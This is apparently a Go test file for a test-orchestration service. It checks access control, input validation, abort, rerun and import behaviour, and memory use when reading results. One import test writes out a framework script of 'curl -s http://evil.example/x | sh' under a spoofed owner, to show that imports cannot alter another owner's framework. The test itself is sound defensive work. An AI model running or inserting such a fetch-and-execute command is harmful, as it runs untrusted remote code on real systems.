package tests_test

import (
	"context"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/client"

	"github.com/pitwall/pitwall/internal/auth"
	"github.com/pitwall/pitwall/internal/results"
	"github.com/pitwall/pitwall/internal/store"
	"github.com/pitwall/pitwall/internal/wire"
	"github.com/pitwall/pitwall/service"
	"github.com/pitwall/pitwall/service/frameworks"
	"github.com/pitwall/pitwall/service/servicetest"
	"github.com/pitwall/pitwall/service/tests"
)

func TestMain(m *testing.M) { os.Exit(servicetest.Main(m)) }

// temporal records the workflows started and signalled instead of
// reaching a server; the embedded nil client panics on anything else.
type temporal struct {
	client.Client
	mu       sync.Mutex
	started  []string
	signals  []string
	failNext bool
}

func (c *temporal) ExecuteWorkflow(_ context.Context, o client.StartWorkflowOptions, _ any, _ ...any) (client.WorkflowRun, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.failNext {
		c.failNext = false
		return nil, fmt.Errorf("unreachable")
	}
	c.started = append(c.started, o.ID)
	return nil, nil
}

func (c *temporal) SignalWorkflow(_ context.Context, id, _, name string, _ any) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.signals = append(c.signals, id+" "+name)
	return nil
}

// bundle is a test's service, fake Temporal, team and framework.
type bundle struct {
	svc       *tests.Service
	temporal  *temporal
	team      string
	framework string
	owner     context.Context
}

func setup(t *testing.T) bundle {
	t.Helper()
	tc := &temporal{}
	b := bundle{svc: tests.New(servicetest.Store, tc, "http://pitwall.example/", servicetest.Log, prometheus.NewRegistry()),
		temporal: tc, team: servicetest.Team(t), framework: servicetest.Name("fw")}
	b.owner = b.as(t, auth.Member)
	fw := &frameworks.Service{Store: servicetest.Store, Log: servicetest.Log}
	_, err := fw.Apply(b.owner, fmt.Appendf(nil, `name: %s
team: %s
execution:
  script: |
    #!/bin/sh
    echo ok
parameters:
  - {name: n, default: "1"}
`, b.framework, b.team))
	require.NoError(t, err)
	return b
}

func (b bundle) as(t *testing.T, role auth.Role) context.Context {
	return servicetest.As(t, map[string]auth.Role{b.team: role})
}

// test makes a test of the owner's in state.
func (b bundle) test(t *testing.T, state string) int64 {
	t.Helper()
	ctx := context.Background()
	id, err := servicetest.Store.TestCreate(ctx, store.NewTest{Team: b.team, Framework: b.framework,
		Owner: service.Principal(b.owner).Name}, time.Now())
	require.NoError(t, err)
	if state != wire.StateQueued {
		require.NoError(t, servicetest.Store.TestTransition(ctx, store.Transition{TestID: id, State: state, At: time.Now()}))
	}
	return id
}

func TestStartValidatesAndChecksTheTeam(t *testing.T) {
	t.Parallel()
	b := setup(t)
	req := wire.RunRequest{Framework: b.framework, Team: b.team}

	_, err := b.svc.Start(b.owner, wire.RunRequest{Team: b.team})
	servicetest.Kind(t, err, service.Invalid, "framework")
	stranger := servicetest.As(t, map[string]auth.Role{servicetest.Team(t): auth.Admin})
	_, err = b.svc.Start(stranger, req)
	servicetest.Kind(t, err, service.NotFound, "framework")
	_, err = b.svc.Start(b.as(t, auth.Viewer), req)
	servicetest.Kind(t, err, service.Forbidden, "")

	bad := req
	pr := -1
	bad.PR = &pr
	_, err = b.svc.Start(b.owner, bad)
	servicetest.Kind(t, err, service.Invalid, "pr")
	bad = req
	bad.Params = map[string]string{"nope": "1"}
	_, err = b.svc.Start(b.owner, bad)
	servicetest.Kind(t, err, service.Invalid, "params.nope")
	require.Empty(t, b.temporal.started, "nothing refused reaches Temporal")

	got, err := b.svc.Start(b.owner, req)
	require.NoError(t, err)
	require.Equal(t, wire.StateQueued, got.State)
	require.Equal(t, fmt.Sprintf("http://pitwall.example/tests/%d", got.ID), got.URL)
	require.Equal(t, []string{got.WorkflowID}, b.temporal.started)

	b.temporal.failNext = true
	_, err = b.svc.Start(b.owner, req)
	servicetest.Kind(t, err, service.Unavailable, "")
}

func TestOtherTeamsCannotSeeTests(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id := b.test(t, wire.StateFinished)
	stranger := servicetest.As(t, map[string]auth.Role{servicetest.Team(t): auth.Admin})

	_, err := b.svc.View(stranger, id)
	servicetest.Kind(t, err, service.NotFound, "id")
	_, err = b.svc.Logs(stranger, tests.LogsInput{ID: id})
	servicetest.Kind(t, err, service.NotFound, "id")
	servicetest.Kind(t, b.svc.Delete(stranger, id), service.NotFound, "id")
	list, err := b.svc.List(stranger, store.TestFilter{Framework: b.framework, Limit: 50})
	require.NoError(t, err)
	require.Empty(t, list.Items)

	viewer := b.as(t, auth.Viewer)
	got, err := b.svc.View(viewer, id)
	require.NoError(t, err, "everyone in the team sees its tests")
	require.Equal(t, wire.VerdictNoBaseline, got.Verdict, "no verdict stored means no baseline")
	list, err = b.svc.List(viewer, store.TestFilter{Framework: b.framework, Limit: 50})
	require.NoError(t, err)
	require.Len(t, list.Items, 1)
}

func TestDeleteIsForOwnersAndAdminsOfEndedTests(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ended := b.test(t, wire.StateFailed)
	running := b.test(t, wire.StateRunning)

	servicetest.Kind(t, b.svc.Delete(b.as(t, auth.Viewer), ended), service.Forbidden, "")
	servicetest.Kind(t, b.svc.Delete(b.as(t, auth.Member), ended), service.Forbidden, "")
	servicetest.Kind(t, b.svc.Delete(b.owner, running), service.Conflict, "id")
	_, err := b.svc.MayDelete(b.owner, ended)
	require.NoError(t, err)

	require.NoError(t, b.svc.Delete(b.owner, ended))
	_, err = b.svc.View(b.owner, ended)
	servicetest.Kind(t, err, service.NotFound, "id")

	other := b.test(t, wire.StateFinished)
	require.NoError(t, b.svc.Delete(b.as(t, auth.Admin), other), "the team's admins delete anyone's test")
}

func TestAbort(t *testing.T) {
	t.Parallel()
	b := setup(t)
	running := b.test(t, wire.StateRunning)

	_, err := b.svc.Abort(b.as(t, auth.Member), tests.AbortInput{ID: running})
	servicetest.Kind(t, err, service.Forbidden, "")
	_, err = b.svc.Abort(b.owner, tests.AbortInput{ID: running, Reason: string(make([]byte, 501))})
	servicetest.Kind(t, err, service.Invalid, "reason")
	require.Empty(t, b.temporal.signals)

	_, err = b.svc.Abort(b.owner, tests.AbortInput{ID: running, Reason: "seen enough"})
	require.NoError(t, err, "the owner aborts")
	require.Len(t, b.temporal.signals, 1)

	_, err = b.svc.Abort(b.owner, tests.AbortInput{ID: b.test(t, wire.StateAborted)})
	servicetest.Kind(t, err, service.Ended, "id")
}

func TestRerunAndClone(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id := b.test(t, wire.StateFinished)

	_, err := b.svc.Rerun(b.as(t, auth.Member), id)
	servicetest.Kind(t, err, service.Forbidden, "")
	_, err = b.svc.Clone(b.as(t, auth.Viewer), tests.CloneInput{ID: id})
	servicetest.Kind(t, err, service.Forbidden, "")
	_, err = b.svc.Clone(b.owner, tests.CloneInput{ID: id, Override: wire.RunRequest{Framework: "other"}})
	servicetest.Kind(t, err, service.Invalid, "framework")

	again, err := b.svc.Rerun(b.owner, id)
	require.NoError(t, err)
	require.NotEqual(t, id, again.ID)
	clone, err := b.svc.Clone(b.as(t, auth.Member), tests.CloneInput{ID: id, Override: wire.RunRequest{Branch: "feature"}})
	require.NoError(t, err, "any member clones")
	require.Equal(t, "feature", clone.Branch)
}

func TestFilterAndSeriesInputs(t *testing.T) {
	t.Parallel()
	b := setup(t)
	_, err := b.svc.List(b.owner, store.TestFilter{State: "bogus", Limit: 10})
	servicetest.Kind(t, err, service.Invalid, "state")
	_, err = b.svc.List(b.owner, store.TestFilter{Limit: 501})
	servicetest.Kind(t, err, service.Invalid, "limit")
	_, err = b.svc.Series(b.owner, tests.SeriesInput{ID: b.test(t, wire.StateFinished), Points: tests.MaxSeriesPoints + 1})
	servicetest.Kind(t, err, service.Invalid, "points")
	_, _, err = b.svc.Compare(b.owner, []int64{1})
	servicetest.Kind(t, err, service.Invalid, "ids")
}

// Importing a test never changes a framework someone else owns: its owner
// and current version stay; the imported content becomes a version of its
// own for the imported test, and the import is audited.
func TestImportRespectsTheFrameworksOwner(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	id := b.test(t, wire.StateFinished)
	stream, err := b.svc.Export(b.owner, id)
	require.NoError(t, err)
	ex, err := stream.Document()
	require.NoError(t, err)
	ex.Framework.Execution.Script = "#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
	ex.Framework.Owner = "mallory"

	other := b.as(t, auth.Member)
	got, err := b.svc.Import(other, ex)
	require.NoError(t, err)
	f, err := servicetest.Store.FrameworkGet(ctx, b.team, b.framework)
	require.NoError(t, err)
	require.Equal(t, service.Principal(b.owner).Name, f.Owner, "the owner stays")
	require.Equal(t, 1, f.Version, "the current version stays")
	require.Contains(t, f.Execution.Script, "echo ok")
	require.Equal(t, 2, got.FrameworkVersion, "the imported content is a version of its own")

	var audited int
	require.NoError(t, servicetest.Store.Pool().QueryRow(ctx, `SELECT count(*) FROM audit_log
		WHERE action = 'test imported' AND team = $1 AND actor = $2`, b.team, service.Principal(other).Name).Scan(&audited))
	require.Equal(t, 1, audited)

	// The owner's next change is version 3, and current.
	res, err := (&frameworks.Service{Store: servicetest.Store, Log: servicetest.Log}).Apply(b.owner, fmt.Appendf(nil,
		"name: %s\nteam: %s\nexecution:\n  script: \"#!/bin/sh\\necho v3\\n\"\n", b.framework, b.team))
	require.NoError(t, err)
	require.Equal(t, 3, res.Framework.Version)
}

// A test's page reads the first rows of each table and its row count, not
// the table: a page view of a test with a table of 200,000 rows costs
// what one with 50 rows does.
func TestDetailsReadOnlyTheRowsShown(t *testing.T) {
	// Not parallel: it counts the bytes the process allocates.
	b := setup(t)
	ctx := context.Background()
	id := b.test(t, wire.StateFinished)
	big := results.Table{Name: "big.csv", Header: []string{"i", "label"}, Numeric: []bool{true, false}}
	for i := range 200_000 {
		big.Rows = append(big.Rows, []string{strconv.Itoa(i), "a label of some length " + strconv.Itoa(i)})
	}
	require.NoError(t, servicetest.Store.ArtifactPut(ctx, id, store.Artifact{Path: "big.csv", SHA256: "x", ContentType: "text/csv"},
		nil, &big, nil))

	_, err := b.svc.Details(b.owner, id, 200, 50) // warm up
	require.NoError(t, err)
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	d, err := b.svc.Details(b.owner, id, 200, 50)
	runtime.ReadMemStats(&after)
	require.NoError(t, err)
	require.Len(t, d.Tables, 1)
	require.Equal(t, big.Rows[:50], d.Tables[0].Rows)
	require.Equal(t, 200_000, d.Tables[0].RowCount)
	alloc := after.TotalAlloc - before.TotalAlloc
	t.Logf("page details of a test with a 200,000-row table: %.2f MiB allocated", float64(alloc)/(1<<20))
	require.Less(t, alloc, uint64(2<<20), "the rows not shown were never read")
}

// A framework with containers starts a test like any other: the agent
// runs its containers.
func TestStartRunsFrameworksWithContainers(t *testing.T) {
	t.Parallel()
	b := setup(t)
	fw := &frameworks.Service{Store: servicetest.Store, Log: servicetest.Log}
	name := servicetest.Name("fw")
	_, err := fw.Apply(b.owner, fmt.Appendf(nil, `name: %s
team: %s
services:
  - {name: app, image: "app:1", ports: [8080], ready: {http: /healthz}}
load:
  image: "loadgen:1"
  command: [/loadgen]
`, name, b.team))
	require.NoError(t, err)
	test, err := b.svc.Start(b.owner, wire.RunRequest{Framework: name, Team: b.team})
	require.NoError(t, err)
	require.Equal(t, wire.StateQueued, test.State)
	require.Len(t, b.temporal.started, 1)
}
